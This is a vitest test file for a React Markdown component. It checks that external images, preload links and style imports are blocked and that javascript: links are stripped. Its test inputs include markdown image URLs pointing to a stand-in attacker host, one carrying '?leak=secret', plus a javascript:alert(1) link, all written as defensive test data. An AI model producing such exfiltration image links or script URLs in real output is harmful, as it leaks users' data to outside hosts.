import { renderToStaticMarkup } from 'react-dom/server';
import { expect, it } from 'vitest';
import { Markdown } from './markdown';

const render = (text: string) => renderToStaticMarkup(<Markdown text={text} />);

it.each([
  '![x](https://evil.example/p.png?leak=secret)',
  '![x](//evil.example/p.png)',
  '![x](/api/conversations)',
  '![x][ref]\n\n[ref]: https://evil.example/p.png',
  '<img src="https://evil.example/p.png">',
  '[![x](https://evil.example/p.png)](https://evil.example/)',
  '<link rel="preload" as="image" href="https://evil.example/p.png">',
  '<style>@import "https://evil.example/x.css"</style>',
])('loads nothing for %s', (text) => {
  const html = render(text);
  expect(html).not.toMatch(/<(?:img|link|style|iframe|script|source|object|embed)\b/i);
  expect(html).not.toMatch(/\ssrc(?:set)?=/i);
});

it('says what it did not load', () => {
  expect(render('![x](https://evil.example/p.png)')).toContain('external image blocked: evil.example');
});

it('shows the host of a link, and follows only web addresses', () => {
  const html = render('[the source](https://example.org/a) and [run](javascript:alert(1))');
  expect(html).toContain('href="https://example.org/a"');
  expect(html).toContain('rel="noopener noreferrer nofollow"');
  expect(html).toContain('(example.org)');
  expect(html).not.toContain('javascript:');
});

it('draws tables and emphasis', () => {
  expect(render('| a | b |\n|---|---|\n| **1** | 2 |')).toContain('<td><strong>1</strong></td>');
});
